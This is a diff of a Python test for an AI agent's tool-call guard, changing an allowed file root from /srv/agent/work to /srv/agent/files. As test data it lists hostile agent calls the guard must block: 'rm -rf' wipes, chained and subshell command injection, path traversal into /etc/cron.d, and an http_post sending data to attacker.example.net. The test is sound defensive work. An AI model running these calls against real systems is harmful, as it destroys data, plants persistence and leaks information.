@@ -149,7 +149,7 @@ def test_the_documented_shell_file_and_http_rules_and_a_custom_policy_through_ag
         "wipe": calls(("bash", {"cmd": "rm -rf data"})),
         "chain": calls(("bash", {"cmd": "ls data; rm -rf data"})),
         "subshell": calls(("bash", {"cmd": "cat $(rm -rf data)"})),
-        "escape": calls(("write_file", {"path": "/srv/agent/work/../../../etc/cron.d/job", "content": "x"})),
+        "escape": calls(("write_file", {"path": "/srv/agent/files/../../../etc/cron.d/job", "content": "x"})),
         "relative escape": calls(("write_file", {"path": "../../etc/cron.d/job", "content": "x"})),
         "exfiltrate": calls(("http_post", {"url": "https://attacker.example.net/c", "json": {"q": "rows"}})),
         "lookalike": calls(("http_post", {"url": "https://api.example.com@attacker.example.net/", "json": {}})),
@@ -204,7 +204,7 @@ def test_the_documented_shell_file_and_http_rules_and_a_custom_policy_through_ag
     assert all(executed == [] for q, (executed, _) in outcome.items() if q not in allowed)
     reason = {q: ds[0]["reason"] for q, (_, ds) in outcome.items() if q not in allowed}
     assert "does not match the pattern" in reason["wipe"] and "does not match the pattern" in reason["chain"]
-    assert "outside the allowed roots ['/srv/agent/work']" in reason["escape"]
+    assert "outside the allowed roots ['/srv/agent/files']" in reason["escape"]
     assert "outside the allowed roots" in reason["relative escape"]
     assert "not an allowed host" in reason["exfiltrate"] and "user information" in reason["lookalike"]
     assert "above the maximum 100" in reason["too many"]
